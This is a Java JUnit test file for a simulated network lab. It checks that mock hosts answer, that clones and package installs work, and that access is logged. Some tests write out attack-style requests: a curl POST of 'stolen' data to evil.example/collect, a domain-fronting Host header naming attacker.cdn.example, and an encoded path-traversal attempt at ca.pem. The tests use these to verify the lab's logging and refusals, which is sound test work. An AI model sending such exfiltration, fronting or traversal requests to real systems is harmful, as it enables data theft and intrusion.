package dev.sallyport.testkit.lab;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assumptions.assumeThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

@ExtendWith(LabExtension.class)
class LabWebTest {
  private final Lab lab;

  LabWebTest(Lab lab) {
    this.lab = lab;
  }

  @ParameterizedTest
  @CsvSource({"--ipv4, --http2, 192.0.2.10", "--ipv6, --http1.1, 2001:db8::10"})
  void givesAnAnswerThatTheAuthorityVouchesFor(String family, String version, String address)
      throws Exception {
    String output =
        Inside.run(
                lab,
                "curl",
                "--silent",
                "--show-error",
                family,
                version,
                "--write-out",
                "%{http_code} %{ssl_verify_result} %{remote_ip}",
                "https://github.com/")
            .expectSuccess();

    assertThat(output).isEqualTo("github.com\n200 0 " + address);
  }

  @Test
  void isNotTrustedWithoutItsAuthority(@TempDir Path empty) throws Exception {
    ProcessBuilder curl =
        lab.process("curl", "--silent", "--capath", empty.toString(), "https://github.com/");
    lab.environment().keySet().forEach(curl.environment()::remove);

    assertThat(Inside.run(curl).status()).isIn(60, 77);
  }

  @Test
  void writesDownWhatArrived() throws Exception {
    String answer =
        Inside.run(
                lab,
                "curl",
                "--silent",
                "--ipv4",
                "--data-binary",
                "stolen",
                "https://evil.example/collect?who=me")
            .expectSuccess();

    assertThat(answer).isEqualTo("evil.example took 6 bytes\n");
    List<AccessRecord> arrived =
        lab.accessLog().stream()
            .filter(entry -> entry.local().equals(lab.address("evil.example") + ":443"))
            .toList();
    assertThat(arrived)
        .extracting(AccessRecord::kind)
        .containsExactly(
            AccessRecord.Kind.CONNECTION, AccessRecord.Kind.HANDSHAKE, AccessRecord.Kind.REQUEST);
    AccessRecord request = arrived.getLast();
    assertThat(request.method()).isEqualTo("POST");
    assertThat(request.path()).isEqualTo("/collect?who=me");
    assertThat(request.protocol()).isEqualTo("HTTP/2.0");
    assertThat(request.bytes()).isEqualTo(6);
    assertThat(request.remote()).startsWith("198.51.100.2:");
  }

  @Test
  void tellsTheNameOfTlsFromTheNameOfHttp() throws Exception {
    Inside.run(
            lab,
            "curl",
            "--silent",
            "--header",
            "Host: attacker.cdn.example",
            "https://shop.cdn.example/fronted")
        .expectSuccess();

    assertThat(lab.accessLog())
        .anySatisfy(entry -> {
          assertThat(entry.path()).isEqualTo("/fronted");
          assertThat(entry.serverName()).isEqualTo("shop.cdn.example");
          assertThat(entry.host()).isEqualTo("attacker.cdn.example");
          assertThat(entry.status()).isEqualTo(404);
        });
  }

  @Test
  void keepsItsOwnFilesToItself() throws Exception {
    String status =
        Inside.run(
                lab,
                "curl",
                "--silent",
                "--path-as-is",
                "--output",
                "/dev/null",
                "--write-out",
                "%{http_code}",
                "https://github.com/acme/%2e%2e/%2e%2e/%2e%2e/ca.pem")
            .expectSuccess();

    assertThat(status).startsWith("4");
  }

  @Test
  void hasServersWhereNoNameLeads() throws Exception {
    assertThat(Inside.run(lab, "curl", "--silent", "http://" + lab.namelessAddress()).output())
        .isEqualTo(lab.namelessAddress() + "\n");
    assertThat(
            Inside.run(
                    lab,
                    "curl",
                    "--silent",
                    "--globoff",
                    "https://[" + lab.namelessAddress6() + "]/")
                .output())
        .contains(lab.namelessAddress6());
  }

  @Test
  void canBeClonedFrom(@TempDir Path folder) throws Exception {
    Inside.run(
            lab.process("git", "clone", "--quiet", "https://github.com/acme/app.git")
                .directory(folder.toFile()))
        .expectSuccess();

    assertThat(folder.resolve("app/src/main.c")).content().contains("checksum(line)");
    assertThat(folder.resolve("app/make.sh")).isExecutable();
  }

  @Test
  void isRegistryEnoughForNpm(@TempDir Path folder) throws Exception {
    assumeThat(Tools.find("npm")).as("npm is installed").isPresent();
    ProcessBuilder npm =
        lab.process("npm", "install", "--no-audit", "--no-fund", "left-pad")
            .directory(folder.toFile());
    npm.environment().put("npm_config_cache", folder.resolve("cache").toString());

    Inside.run(npm).expectSuccess();

    assertThat(folder.resolve("node_modules/left-pad/index.js")).exists();
    assertThat(Files.readString(folder.resolve("package-lock.json")))
        .contains("\"integrity\": \"sha512-");
  }

  @Test
  void echoesOverTcpAndUdpAndBothFamilies() throws Exception {
    for (String address : List.of(lab.address("evil.example"), lab.address6("evil.example"))) {
      for (String transport : List.of("tcp", "udp")) {
        String output =
            Inside.run(
                    lab,
                    JavaCommand.java(),
                    "-XX:TieredStopAtLevel=1",
                    "-cp",
                    Path.of("target/test-classes").toAbsolutePath().toString(),
                    EchoClient.class.getName(),
                    transport,
                    address,
                    "hello")
                .expectSuccess();
        assertThat(output).isEqualTo("hello\n");
      }
    }
    assertThat(lab.accessLog())
        .filteredOn(entry -> entry.kind() == AccessRecord.Kind.UDP_ECHO)
        .extracting(AccessRecord::bytes)
        .containsExactly(5L, 5L);
    assertThat(lab.accessLog())
        .filteredOn(entry -> entry.kind() == AccessRecord.Kind.TCP_ECHO)
        .extracting(AccessRecord::bytes)
        .containsExactly(5L, 5L);
  }

  @Test
  void speaksToGoInBothVersionsOfHttp(@TempDir Path folder) throws Exception {
    LabClients.Client client = LabClients.go(folder);
    assumeThat(client).as(client.toString()).isInstanceOf(LabClients.Client.Built.class);
    String get = ((LabClients.Client.Built) client).program().toString();

    assertThat(Inside.run(lab, get, "-repeat", "2", "https://pypi.org/").output())
        .isEqualTo("HTTP/2.0 200\nHTTP/2.0 200\n");
    assertThat(Inside.run(lab, get, "-http2=false", "https://pypi.org/").output())
        .isEqualTo("HTTP/1.1 200\n");
    assertThat(
            Inside.run(lab, get, "-method", "PUT", "-body", "abc", "https://evil.example/go")
                .output())
        .isEqualTo("HTTP/2.0 200\n");
    assertThat(lab.accessLog())
        .anySatisfy(entry -> {
          assertThat(entry.path()).isEqualTo("/go");
          assertThat(entry.bytes()).isEqualTo(3);
        });
  }
}
